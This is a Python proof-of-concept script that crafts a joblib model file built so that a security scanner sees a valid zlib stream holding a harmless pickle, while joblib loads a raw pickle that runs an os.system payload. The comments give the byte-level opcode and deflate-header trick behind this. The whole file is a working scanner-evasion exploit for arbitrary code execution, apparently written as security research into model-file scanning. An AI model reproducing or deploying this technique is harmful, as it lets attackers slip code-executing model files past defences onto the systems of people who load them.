from common import *
import zlib, struct
# A file that is a valid zlib stream to the scanner and a raw pickle to joblib.
# joblib only treats files starting with b'x' (0x78) as zlib; the scanner takes any valid zlib
# header (CMF low nibble 8, CINFO <= 7, header checksum). CMF=0x28 '(' MARK, FLG=0x91 FROZENSET.
# The deflate data is one *stored* block: header byte 0x71 'q' (BFINAL=1, BTYPE=00, the 5 pad
# bits are ignored by inflate), LEN=0x71lo, NLEN=~LEN. As opcodes: 'q' lo = BINPUT, 0x71 ~lo =
# BINPUT, ~0x71 = 0x8e = BINBYTES8 whose 8-byte length is the first 8 stored bytes.
# Scanner: decompresses to the stored bytes, b'N.' + zeros...: a None pickle (trailing junk).
# joblib: BINBYTES8 swallows 11854 bytes, then POP + os.system payload + STOP inside the block.
lo = 0x00
LEN = 0x7100 | lo
data = bytearray(LEN)
data[0:2] = b'N.'                       # u64 length = 0x2e4e = 11854
L8 = struct.unpack('<Q', bytes(data[0:8]))[0]
at = 8 + L8
tail = b'0' + PAYLOAD + b'.'
data[at:at+len(tail)] = tail
data = bytes(data)
stream = b'\x28\x91' + bytes([0x71, lo, 0x71, lo ^ 0xff, 0x8e]) + data + struct.pack('>I', zlib.adler32(data))
assert zlib.decompress(stream, 15) == data
run('b8.joblib', stream)
